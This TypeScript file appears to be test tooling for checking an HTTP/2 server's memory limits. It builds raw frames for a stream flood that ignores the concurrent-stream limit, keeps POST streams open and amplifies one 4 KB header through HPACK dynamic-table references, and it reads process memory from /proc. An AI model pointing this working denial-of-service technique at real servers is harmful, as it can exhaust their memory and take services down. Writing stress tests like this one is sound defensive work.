import { connect } from 'node:tls';
import { readFileSync } from 'node:fs';

/** Options of h2StreamFlood. */
export interface StreamFloodOptions {
  /** HEADERS frames to send (one new stream each). */
  streams: number;
  /**
   * Each stream's header block repeats one ~4 KB header this many times. The value is sent once into
   * the HPACK dynamic table and then referenced with one byte per copy, so a few bytes on the wire
   * cost the server `headerCopies` x 4 KB of decoded headers per stream (the shape that drove an
   * unlimited director to gigabytes).
   */
  headerCopies: number;
  timeoutMs?: number;
}

/** A 4,000-byte header value: with its name and HPACK's 32-byte overhead it just fits the 4,096-byte dynamic table. */
const BIG_VALUE_BYTES = 4000;

/**
 * A hostile HTTP/2 client written frame by frame, so no client library can hold it back: after the
 * preface it sends `streams` HEADERS frames as fast as the socket takes them, ignoring the server's
 * SETTINGS_MAX_CONCURRENT_STREAMS. Every stream is a POST left open (no body, no END_STREAM), the
 * kind that pins server memory until the stream ends, and carries `headerCopies` copies of a 4 KB
 * header. Resolves with the bytes the server sent back once it closes the connection or `timeoutMs`
 * passes.
 */
export function h2StreamFlood(port: number, opts: StreamFloodOptions): Promise<{ received: number; closed: boolean }> {
  return new Promise((resolve) => {
    let received = 0;
    const socket = connect({ host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    const finish = (closed: boolean) => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ received, closed });
    };
    const timer = setTimeout(() => finish(false), opts.timeoutMs ?? 20_000);
    socket.on('data', (d) => (received += d.length));
    socket.on('close', () => finish(true));
    socket.on('error', () => {});
    socket.once('secureConnect', () => {
      const path = Buffer.from('/v1/login');
      const authority = Buffer.from(`127.0.0.1:${port}`);
      // HPACK: :method POST (3), :scheme https (7), :path and :authority literal without indexing (names 4, 1).
      const base = Buffer.concat([Buffer.from([0x83, 0x87, 0x04, path.length]), path, Buffer.from([0x01, authority.length]), authority]);
      // The first block adds "x-pad: <4000 x 'a'>" to the dynamic table (literal with incremental
      // indexing, new name); every copy after that is the one-byte index 62, the table's newest entry.
      const name = Buffer.from('x-pad');
      const insert = Buffer.concat([Buffer.from([0x40, name.length]), name, hpackLength(BIG_VALUE_BYTES), Buffer.alloc(BIG_VALUE_BYTES, 'a')]);
      const copies = Buffer.alloc(opts.headerCopies, 0x80 | 62);
      const frames: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))];
      frames.push(frame(0x1, 0x4, 1, Buffer.concat([base, insert, copies.subarray(1)])));
      for (let i = 1; i < opts.streams; i++) frames.push(frame(0x1, 0x4, 2 * i + 1, Buffer.concat([base, copies])));
      socket.write(Buffer.concat(frames));
    });
  });
}

/** An HPACK string length (7-bit prefix, no Huffman) for lengths from 127 to 16,510. */
function hpackLength(length: number): Buffer {
  const rest = length - 127;
  return Buffer.from([0x7f, 0x80 | (rest & 0x7f), rest >> 7]);
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** Resident set size of a process in bytes (Linux /proc). */
export function rssOf(pid: number): number {
  const m = readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+) kB/);
  return m ? Number(m[1]) * 1024 : 0;
}
